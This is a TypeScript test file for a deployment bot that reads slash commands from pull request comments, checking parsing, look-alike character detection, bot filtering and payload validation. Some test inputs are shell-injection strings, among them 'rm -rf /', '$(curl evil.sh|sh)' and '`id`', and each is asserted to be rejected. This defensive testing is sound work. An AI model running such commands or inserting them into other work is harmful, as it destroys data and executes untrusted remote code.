import fc from "fast-check";
import { asciiSkeleton, decideIntent, firstLine, helpText, parseCommand, type Decision, type IntentConfig } from "../../core/intent";
import { dispatch, issueComment, prComment, prLabeled, prOpened, push } from "../fixtures/events";

const ENVS = ["dev", "staging", "prod"];
const CFG: IntentConfig = { environments: ENVS, approvalLabel: "approved:prod", approvalEnvironments: ["prod"], branches: { dev: "dev", staging: "test", prod: "main" } };

describe("parseCommand", () => {
  it.each([
    ["/deploy dev", { kind: "deploy", environment: "dev", commit: null }],
    ["/deploy prod 0123abc", { kind: "deploy", environment: "prod", commit: "0123abc" }],
    ["/deploy dev ABCDEF0123", { kind: "deploy", environment: "dev", commit: "abcdef0123" }],
    ["/deploy   staging\t", { kind: "deploy", environment: "staging", commit: null }],
    ["/Deploy dev", { kind: "deploy", environment: "dev", commit: null }],
    ["/deploy dev\r\nbecause the fix is in", { kind: "deploy", environment: "dev", commit: null }],
    ["/preview staging", { kind: "preview", environment: "staging" }],
    ["/rollback prod", { kind: "rollback", environment: "prod", commit: null }],
    ["/rollback prod to 0123456789abcdef0123456789abcdef01234567", { kind: "rollback", environment: "prod", commit: "0123456789abcdef0123456789abcdef01234567" }],
    ["/promote dev staging", { kind: "promote", from: "dev", to: "staging" }],
    ["/help", { kind: "help" }],
    ["/help me please", { kind: "help" }],
  ])("%j parses", (body, expected) => {
    expect(parseCommand(body, ENVS)).toEqual(expected);
  });

  it.each([
    ["deploy dev", "not-a-command"],
    [" /deploy dev", "not-a-command"], // not in column 0
    ["Please run\n/deploy prod", "not-a-command"], // not on the first line
    ["> /deploy prod", "not-a-command"], // quoted in a reply
    ["/tmp/x is full", "not-a-command"],
    ["/", "not-a-command"],
    ["／deploy dev", "not-a-command"], // full-width solidus: not our prefix
    ["/shrug ¯\\_(ツ)_/¯", "unknown-command"], // a reply says so; nothing is done
    ["/ѕhrug", "not-a-command"], // non-ASCII word that looks like none of ours
    ["/deploi dev", "unknown-command"],
    ["/destroy prod", "unknown-command"],
    ["/deploy", "malformed-command"],
    ["/deploy dev abc def", "malformed-command"],
    ["/deploy dev xyz1234", "malformed-command"],
    ["/deploy dev;rm -rf /", "malformed-command"],
    ["/deploy dev $(curl evil.sh|sh)", "malformed-command"],
    ["/deploy dev `id`", "malformed-command"],
    ["/deploy dev && echo pwned", "malformed-command"],
    ["/deploy 'dev'", "malformed-command"],
    ["/rollback prod 0123abc", "malformed-command"],
    ["/rollback prod to", "malformed-command"],
    ["/promote dev", "malformed-command"],
    ["/promote dev dev", "malformed-command"],
    ["/dеploy dev", "lookalike-characters"], // Cyrillic е (U+0435)
    ["/deplоy dev", "lookalike-characters"], // Cyrillic о (U+043E)
    ["/de\u200bploy dev", "lookalike-characters"], // zero-width space
    ["/deploy prоd", "lookalike-characters"], // Cyrillic о in the argument
    ["/deploy production", "unknown-environment"],
    ["/deploy Dev", "unknown-environment"],
    ["/promote dev qa", "unknown-environment"],
    [`/deploy dev ${"a".repeat(300)}`, "malformed-command"],
  ])("%j is %s", (body, kind) => {
    expect(parseCommand(body, ENVS).kind).toBe(kind);
  });

  it("explains the look-alike with its code point, without echoing it", () => {
    const r = parseCommand("/dеploy dev", ENVS);
    expect(r).toEqual({ kind: "lookalike-characters", message: expect.stringContaining("U+0435") });
    expect((r as { message: string }).message).not.toContain("dеploy");
  });

  it("describes a bad argument instead of quoting the commenter's markdown", () => {
    const r = parseCommand("/deploy dev `@everyone`", ENVS) as { message: string };
    expect(r.message).toBe("Argument 2 contains U+0060; arguments may contain only letters, digits and `. _ : -`. Usage: `/deploy <environment> [sha]`.");
  });

  it("suggests the nearest command and environment", () => {
    expect(parseCommand("/deplyo dev", ENVS)).toEqual({ kind: "unknown-command", message: "`/deplyo` is not a command; did you mean `/deploy`?" });
    expect(parseCommand("/deploy prd", ENVS)).toEqual({
      kind: "unknown-environment",
      message: "`prd` is not a configured environment (`dev`, `staging`, `prod`); did you mean `prod`?",
    });
  });

  it("maps look-alikes to their ASCII skeleton", () => {
    expect(asciiSkeleton("dеploy")).toBe("deploy");
    expect(asciiSkeleton("ｄｅｐｌｏｙ")).toBe("deploy");
    expect(firstLine("a\r\nb")).toBe("a");
  });

  it("never throws and gives exactly one result for any text", () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: "binary", maxLength: 300 }), fc.string().map((s) => `/${s}`), fc.constantFrom("/deploy ", "/rollback prod to ").chain((p) => fc.string().map((s) => p + s))), (body) => {
        const r = parseCommand(body, ENVS);
        expect(typeof r.kind).toBe("string");
      }),
      { numRuns: 1000 },
    );
  });

  it("accepts only ASCII environment names and hex commits from any /deploy line", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 120 }), (rest) => {
        const r = parseCommand(`/deploy ${rest}`, ENVS);
        if (r.kind === "deploy") {
          expect(ENVS).toContain(r.environment);
          expect(r.commit === null || /^[0-9a-f]{7,40}$/.test(r.commit)).toBe(true);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it("help lists every command, the two-person rule, last known-good rollbacks and the freeze", () => {
    const text = helpText(ENVS, "approved:prod", ["prod"]);
    for (const c of ["/deploy", "/preview", "/rollback", "/promote", "/help"]) expect(text).toContain(c);
    expect(text).toContain("`approved:prod` label, applied by someone who is neither the PR author nor the person asking");
    expect(text).toContain("| `/rollback <environment> [to <sha>]` | redeploy the environment's last known-good commit, or the given commit from its branch |");
    expect(text).toContain("| `/promote <from-environment> <to-environment>` | open the pull request that promotes the validated commit of `<from>` to the next environment |");
    expect(text).toContain("While an issue labelled `deployment-failure` is open, promotion is frozen: only rollbacks and deployments to `dev` run.");
  });
});

describe("decideIntent on real payload shapes", () => {
  it("a PR comment asks for a deployment on behalf of the commenter", () => {
    const e = prComment("/deploy staging", { login: "octocat" });
    expect(decideIntent("issue_comment", e, CFG)).toEqual({
      action: "deploy",
      environment: "staging",
      commit: null,
      ref: null,
      commentId: e.comment.id,
      source: "comment",
      requestedBy: "octocat",
      pullRequest: e.issue.number,
    });
  });

  it("a SHA in the command is carried for the gates to compare with the head", () => {
    expect(decideIntent("issue_comment", prComment("/deploy prod 0123abcd"), CFG)).toMatchObject({ action: "deploy", commit: "0123abcd" });
  });

  it("a comment on an issue that is not a pull request does nothing, silently", () => {
    expect(decideIntent("issue_comment", issueComment("/deploy dev"), CFG)).toMatchObject({ action: "none", reason: "not-a-pull-request", reply: null, pullRequest: null });
  });

  it("edited and deleted comments are not commands", () => {
    expect(decideIntent("issue_comment", prComment("/deploy prod", { action: "edited" }), CFG)).toMatchObject({ action: "none", reason: "comment-edited", reply: null });
    expect(decideIntent("issue_comment", prComment("/deploy prod", { action: "deleted" }), CFG)).toMatchObject({ action: "none", reason: "comment-deleted" });
  });

  it("bots are never obeyed", () => {
    expect(decideIntent("issue_comment", prComment("/deploy dev", { login: "github-actions[bot]", type: "Bot" }), CFG)).toMatchObject({ action: "none", reason: "bot-sender", reply: null });
    expect(decideIntent("issue_comment", prComment("/deploy dev", { login: "renovate[bot]" }), CFG)).toMatchObject({ action: "none", reason: "bot-sender" });
  });

  it("ordinary conversation is ignored without a reply", () => {
    expect(decideIntent("issue_comment", prComment("You are totally right! I'll get this fixed right away."), CFG)).toMatchObject({ action: "none", reason: "not-a-command", reply: null });
  });

  it("unknown or malformed commands get a helpful reply and do nothing", () => {
    const d = decideIntent("issue_comment", prComment("/deploy qa"), CFG);
    expect(d).toMatchObject({ action: "none", reason: "unknown-environment" });
    expect((d as { reply: string }).reply).toContain("`qa` is not a configured environment");
    expect((d as { reply: string }).reply).toContain("Nothing was done. Comment `/help`");
    expect(decideIntent("issue_comment", prComment("/dеploy prod"), CFG)).toMatchObject({ action: "none", reason: "lookalike-characters", reply: expect.stringContaining("U+0435") });
  });

  it("/help replies with the command list", () => {
    expect(decideIntent("issue_comment", prComment("/help"), CFG)).toMatchObject({ action: "help", reply: expect.stringContaining("/rollback <environment> [to <sha>]") });
  });

  it("/promote is parsed for the gates and the promotion machine", () => {
    const e = prComment("/promote staging prod", { login: "octocat" });
    expect(decideIntent("issue_comment", e, CFG)).toEqual({ action: "promote", from: "staging", to: "prod", commentId: e.comment.id, source: "comment", requestedBy: "octocat", pullRequest: e.issue.number });
  });

  it("/rollback without a SHA leaves the commit to the gates (the last known-good one)", () => {
    expect(decideIntent("issue_comment", prComment("/rollback staging", { login: "octocat" }), CFG)).toMatchObject({ action: "rollback", environment: "staging", commit: null, source: "comment" });
  });

  it("closed pull requests are refused with a reply", () => {
    expect(decideIntent("issue_comment", prComment("/deploy dev", { state: "closed" }), CFG)).toMatchObject({ action: "none", reason: "pull-request-closed", reply: expect.any(String) });
  });

  it("a deploy label captures the PR head from the payload", () => {
    const e = prLabeled("deploy:dev", { sender: "octocat" });
    expect(decideIntent("pull_request_target", e, CFG)).toEqual({
      action: "deploy",
      environment: "dev",
      commit: e.pull_request.head.sha,
      ref: null,
      commentId: null,
      source: "label",
      requestedBy: "octocat",
      pullRequest: e.pull_request.number,
    });
  });

  it("other labels and other pull_request actions do nothing", () => {
    expect(decideIntent("pull_request_target", prLabeled("bug"), CFG)).toMatchObject({ action: "none", reason: "not-a-deploy-label", reply: null });
    expect(decideIntent("pull_request_target", prOpened(), CFG)).toMatchObject({ action: "none", reason: "not-a-deploy-label" });
    expect(decideIntent("pull_request_target", prLabeled("deploy:qa"), CFG)).toMatchObject({ action: "none", reason: "unknown-environment", reply: expect.stringContaining("`deploy:dev`") });
    expect(decideIntent("pull_request_target", prLabeled("deploy:dev", { sender: "dependabot[bot]", senderType: "Bot" }), CFG)).toMatchObject({ action: "none", reason: "bot-sender" });
  });

  it("a dispatch deploys the branch it ran on, or a named commit", () => {
    expect(decideIntent("workflow_dispatch", dispatch({ action: "deploy", environment: "prod", sha: "" }), CFG)).toMatchObject({
      action: "deploy",
      environment: "prod",
      commit: null,
      ref: "refs/heads/main",
      source: "dispatch",
      requestedBy: "octocat",
      pullRequest: null,
    });
    expect(decideIntent("workflow_dispatch", dispatch({ action: "rollback", environment: "dev", sha: " ABCDEF1 " }), CFG)).toMatchObject({ action: "rollback", commit: "abcdef1" });
  });

  it("a bot may dispatch only rollbacks (the promotion machine's), never deploys or previews", () => {
    const bot = (inputs: Record<string, string>) => {
      const e = dispatch(inputs, "refs/heads/test");
      e.sender.login = "github-actions[bot]";
      e.sender.type = "Bot";
      return e;
    };
    expect(decideIntent("workflow_dispatch", bot({ action: "rollback", environment: "staging", sha: "3f2a9c1d5e7b8a0f4c6d2e1b9a8c7d6e5f4a3b2c" }), CFG)).toEqual({
      action: "rollback",
      environment: "staging",
      commit: "3f2a9c1d5e7b8a0f4c6d2e1b9a8c7d6e5f4a3b2c",
      ref: "refs/heads/test",
      commentId: null,
      source: "dispatch",
      requestedBy: "github-actions[bot]",
      pullRequest: null,
    });
    expect(decideIntent("workflow_dispatch", bot({ action: "deploy", environment: "staging", sha: "" }), CFG)).toMatchObject({
      action: "none",
      reason: "bot-sender",
      detail: "github-actions[bot] is a bot; bots may dispatch only rollbacks (the promotion machine's), not deploy",
    });
  });

  it("dispatch inputs are validated like commands", () => {
    expect(decideIntent("workflow_dispatch", dispatch({ action: "destroy", environment: "dev" }), CFG)).toMatchObject({ action: "none", reason: "unknown-command" });
    expect(decideIntent("workflow_dispatch", dispatch({ action: "deploy", environment: "qa" }), CFG)).toMatchObject({ action: "none", reason: "unknown-environment" });
    expect(decideIntent("workflow_dispatch", dispatch({ action: "deploy", environment: "dev", sha: "main; rm -rf /" }), CFG)).toMatchObject({ action: "none", reason: "malformed-command" });
  });

  describe("a push to an environment branch (a merged pull request)", () => {
    it("deploys that environment at the pushed commit, on behalf of the pusher", () => {
      const e = push("test", { after: "5c9e1a7b3d2f4e6a8c0b9d7f5e3a1c2b4d6f8e0a", sender: "octocat" });
      expect(decideIntent("push", e, CFG)).toEqual({
        action: "deploy",
        environment: "staging",
        commit: "5c9e1a7b3d2f4e6a8c0b9d7f5e3a1c2b4d6f8e0a",
        ref: "refs/heads/test",
        commentId: null,
        source: "push",
        requestedBy: "octocat",
        pullRequest: null,
      });
    });

    it("does nothing for other branches, tags, deleted branches and bots", () => {
      expect(decideIntent("push", push("feature/x"), CFG)).toMatchObject({
        action: "none",
        reason: "not-an-environment-branch",
        detail: "a push to refs/heads/feature/x deploys nothing; pushes to `dev`, `test`, `main` deploy their environment",
        reply: null,
      });
      const tag = push("main");
      tag.ref = "refs/tags/main";
      expect(decideIntent("push", tag, CFG)).toMatchObject({ action: "none", reason: "not-an-environment-branch" });
      expect(decideIntent("push", push("main", { deleted: true }), CFG)).toMatchObject({ action: "none", reason: "branch-deleted", detail: "refs/heads/main was deleted" });
      expect(decideIntent("push", push("dev", { sender: "renovate[bot]", senderType: "Bot" }), CFG)).toMatchObject({ action: "none", reason: "bot-sender" });
      expect(decideIntent("push", { ...push("dev"), after: "main; id" }, CFG)).toMatchObject({ action: "none", reason: "invalid-payload", detail: "push.after is missing or not a commit SHA" });
    });
  });

  it("other events and broken payloads give a reason, never an exception", () => {
    // A label seen as pull_request is the PR's own workflow at its merge ref: never a deployment.
    expect(decideIntent("pull_request", prLabeled("deploy:dev"), CFG)).toMatchObject({ action: "none", reason: "unsupported-event" });
    expect(decideIntent("issue_comment", null, CFG)).toMatchObject({ action: "none", reason: "invalid-payload" });
    expect(decideIntent("issue_comment", { comment: { body: 5 } }, CFG)).toMatchObject({ action: "none", reason: "invalid-payload" });
  });

  it("a very long comment is read by its first line only", () => {
    const body = `/deploy dev\n${"x".repeat(1_000_000)}`;
    expect(decideIntent("issue_comment", prComment(body), CFG)).toMatchObject({ action: "deploy", environment: "dev" });
    expect(decideIntent("issue_comment", prComment(`/deploy ${"d".repeat(70_000)}`), CFG)).toMatchObject({ action: "none", reason: "malformed-command" });
  });
});

describe("decideIntent properties", () => {
  const ACTIONS = ["deploy", "preview", "rollback", "promote", "help", "none"];
  const check = (d: Decision) => {
    expect(ACTIONS).toContain(d.action);
    expect(JSON.parse(JSON.stringify(d))).toEqual(d);
    if (d.action === "deploy" || d.action === "preview" || d.action === "rollback") expect(ENVS).toContain(d.environment);
    if (d.action === "none" && d.reply !== null) expect(d.reply.length).toBeLessThan(2000);
  };

  it("any comment body gives exactly one decision and never throws", () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: "binary" }), fc.string().map((s) => `/${s}`), fc.constantFrom("/deploy ", "/promote ", "/rollback ").chain((p) => fc.string({ unit: "grapheme" }).map((s) => p + s))), fc.boolean(), (body, onPr) => {
        const e = onPr ? prComment(body) : issueComment(body);
        check(decideIntent("issue_comment", e, CFG));
      }),
      { numRuns: 1000 },
    );
  });

  it("any JSON payload under any event name gives one decision", () => {
    fc.assert(
      fc.property(fc.constantFrom("issue_comment", "pull_request", "workflow_dispatch", "push", ""), fc.jsonValue(), (name, payload) => {
        check(decideIntent(name, payload, CFG));
      }),
      { numRuns: 1000 },
    );
  });

  it("labels with any name give one decision", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 60 }), (label) => {
        check(decideIntent("pull_request_target", prLabeled(label), CFG));
      }),
      { numRuns: 500 },
    );
  });
});
